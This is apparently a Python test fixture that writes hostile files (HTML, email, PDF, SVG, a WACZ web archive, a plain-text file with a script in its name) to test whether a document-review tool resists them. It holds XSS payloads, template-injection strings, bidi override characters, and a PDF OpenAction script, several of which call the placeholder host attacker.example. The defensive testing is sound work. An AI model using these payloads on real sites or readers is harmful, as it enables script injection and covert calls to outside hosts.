"""Originals that attack whoever looks at them: pages, mail, a package, a PDF and a picture, with what they carry in every place for words.

All try to reach one address, where nobody answers, and to set `window.hacked`.
"""

from __future__ import annotations

import hashlib
import io
import json
import zipfile
from decimal import Decimal
from pathlib import Path

from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from closewatch.terms.actor import Actor, ActorKind, actor_id
from closewatch.terms.figure import Figure, Range
from closewatch.terms.reading import Reading
from closewatch.terms.report import Report
from closewatch.terms.statement import Basis, Manner, Stance, Statement

OUTSIDE = "http://attacker.example"

ATTACK = (
    "<script>window.hacked=1</script><img src=x onerror='window.hacked=1'><svg onload='window.hacked=1'></svg>"
    f"\"'><style>@import url({OUTSIDE}/style.css); body {{ background: url({OUTSIDE}/css.png) }}</style>"
    f"<iframe src='{OUTSIDE}/frame'></iframe>"
    f"<link rel=stylesheet href='{OUTSIDE}/link.css'><link rel=prefetch href='{OUTSIDE}/prefetch'><link rel=dns-prefetch href='{OUTSIDE}'>"
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}/refresh'><base href='{OUTSIDE}/'><object data='{OUTSIDE}/object'></object>"
    f"<form action='{OUTSIDE}/form' id=f><input autofocus onfocus='window.hacked=1'></form><a href='javascript:window.hacked=1'>go</a>"
    f"<video poster='{OUTSIDE}/poster' src='{OUTSIDE}/video'></video><math><mtext></mtext></math>{{{{7*7}}}}{{% raw %}}"
)

BIDI = "\u202e\u2066\u200f"
"""A right-to-left override and isolate, which turn what follows them around, and a mark, which Arabic and Hebrew need."""

TURNING = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
"""Signs that turn around the order of whole passages (Unicode Standard Annex 9, explicit directional formatting)."""

SAID = "Somebody said that 4321 people were killed in Kursk, Russia, on Monday, and that it would not be the last time."

SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' onload='window.hacked=1'>"
    f"<script>window.hacked=1</script><image href='{OUTSIDE}/svg.png' xlink:href='{OUTSIDE}/svg2.png'/>"
    f"<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{OUTSIDE}/svg-frame'/></foreignObject><text>{SAID}</text></svg>"
)


def read_attack(report: Report) -> Reading:
    """Find one statement and one figure by a speaker with a hostile name."""
    start = report.text.index("said that")
    number = report.text.index("4321")
    amount = Decimal(4321 + len(report.text) % 7)  # every report has one of its own, so that there are conflicts
    name = f"<img src=x onerror=window.hacked=1>{BIDI}'\"&amp;"
    speaker = Actor(actor_id(report.id, name), name, ActorKind.PERSON, (name, "</title><script>window.hacked=1</script>"))
    cue, content = report.span(start, start + 4), report.span(start + 5, number + 4)
    statement = Statement(
        report.id, (), (cue,), (content,), Manner.INDIRECT, Stance.ASSERTS, Basis.UNSTATED, via=(name,), speaker=speaker, read_by="hand"
    )
    exactly = Range(low=amount, best=amount, high=amount)
    where = report.span(number, number + 4)
    figure = Figure(report.id, where, "killed", exactly, unit="person", statement=statement.id, speaker=speaker)
    return Reading(report.id, "hand", (statement,), (figure,))


def page(said: str = SAID) -> str:
    """A page that attacks from its title, its headline and its text."""
    return (
        f"<html><head><title>{BIDI}{ATTACK}</title></head><body><article><h1>{BIDI}{ATTACK}</h1>{ATTACK}<p>{said}</p>{ATTACK}"
        f"<p>{said.replace('Monday', 'Tuesday')} {'And so on. ' * 40}</p></article>{ATTACK}</body></html>"
    )


def pdf() -> bytes:
    """A PDF that runs a script when it is opened, and covers its page with a link to the outside."""
    drawn = b"BT /F1 12 Tf 72 700 Td (Somebody said that 4321 people were killed in Kursk.) Tj ET"
    uri = OUTSIDE.encode()
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\('" + uri + b"/js'\\); this.submitForm\\('" + uri
        + b"/f'\\)) >> /AA << /WC << /S /URI /URI (" + uri + b"/closed) >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R] >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(drawn), drawn),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (" + uri + b"/link) >> >>",
    ]  # fmt: skip
    written = bytearray(b"%PDF-1.7\n")
    places = []
    for number, part in enumerate(parts, 1):
        places.append(len(written))
        written += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = len(written)
    written += b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    written += b"".join(b"%010d 00000 n \n" % place for place in places)
    written += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, table)
    return bytes(written)


def package() -> bytes:
    """A package of the web (WACZ) with a hostile page in it, said to come from an address that is a script."""
    archive = io.BytesIO()
    writer = WARCWriter(archive, gzip=True)
    headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1")
    body = io.BytesIO(page(SAID.replace("Kursk", "Kursk again")).encode())
    record = writer.create_warc_record(f"{OUTSIDE}/1?'\"><script>window.hacked=1</script>", "response", payload=body, http_headers=headers)
    writer.write_record(record)
    record.raw_stream.close()
    members = {"archive/data.warc.gz": archive.getvalue(), "pages/pages.jsonl": b'{"format": "json-pages-1.0"}\n'}
    listed = [{"path": name, "hash": f"sha256:{hashlib.sha256(data).hexdigest()}", "bytes": len(data)} for name, data in members.items()]
    members["datapackage.json"] = json.dumps({"profile": "data-package", "resources": listed}).encode()
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as file:
        for name, data in members.items():
            file.writestr(zipfile.ZipInfo(name), data)
    return written.getvalue()


def write_attacks(folder: Path) -> None:
    """Write all of them into a folder."""
    (folder / "<img src=x onerror=window.hacked=1>.html").write_text(page(), "utf-8")
    fields = "".join(f"{name}: {BIDI}{ATTACK}\n" for name in ("Title", "Outlet", "Author"))
    (folder / "plain.txt").write_text(f"{fields}URL: javascript:window.hacked=1\n\n{SAID} {ATTACK}\n", "utf-8")
    (folder / "mail.eml").write_text(
        f"From: <script>window.hacked=1</script> <a@b.example>\nSubject: {ATTACK}\nMIME-Version: 1.0\n"
        "Content-Type: text/html; charset=utf-8\n\n"
        f"<html><body>{ATTACK}<p>{SAID} Again.</p></body></html>\n", "utf-8",
    )  # fmt: skip
    (folder / "opened.pdf").write_bytes(pdf())
    (folder / "package.wacz").write_bytes(package())
    (folder / "picture.svg").write_text(SVG, "utf-8")
